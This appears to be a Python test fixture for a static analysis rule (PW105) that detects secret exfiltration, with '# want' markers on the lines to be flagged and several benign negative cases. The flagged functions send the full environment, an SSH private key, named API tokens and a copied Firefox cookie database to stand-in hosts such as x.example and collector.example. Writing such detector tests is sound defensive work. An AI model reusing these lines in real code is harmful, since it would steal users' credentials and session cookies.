import json
import os
import socket

import requests

requests.post("https://x.example/c", json=dict(os.environ))  # want: PW105


def steal():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://x.example/k", data=key)  # want: PW105


def over_socket(host):
    s = socket.socket()
    s.connect((host, 80))
    s.sendall(json.dumps(os.environ.copy()).encode())  # want: PW105


def fine(url):
    requests.get(url, headers={"Authorization": os.environ["API_TOKEN"]})
    known_hosts = open(os.path.expanduser("~/.ssh/known_hosts")).read()
    print(known_hosts)


def secrets_by_name(url):
    # The names come from a literal list: the loop variable is each of them.
    leak = {k: os.environ.get(k) for k in ["GITHUB_TOKEN", "NPM_TOKEN"]}
    requests.post(url, json=leak)  # want: PW105


NAMES = ("STRIPE_API_KEY", "HOME")


def over_socket_by_name(s):
    s = socket.create_connection(("collector.example", 9000))
    for n in NAMES:
        s.sendall(os.getenv(n, "").encode())  # want: PW105


def settings_by_name(url):
    for k in ("HOME", "LANG"):
        requests.post(url, data=os.environ.get(k))


def copied_cookies(url):
    # A browser's cookie store, copied aside (it is locked while the
    # browser runs), then read through sqlite3.
    import shutil
    import sqlite3
    shutil.copyfile(os.path.expanduser("~/.mozilla/firefox/p.default/cookies.sqlite"), "/tmp/c.db")
    cur = sqlite3.connect("/tmp/c.db").cursor()
    cur.execute("select host, name, value from moz_cookies")
    requests.post(url, files={"f": str(cur.fetchall())})  # want: PW105


def backup_own_database(url, backup):
    import shutil
    import sqlite3
    shutil.copy("app.db", backup)
    rows = sqlite3.connect(backup).execute("select id, title from notes").fetchall()
    requests.post(url, json=rows)
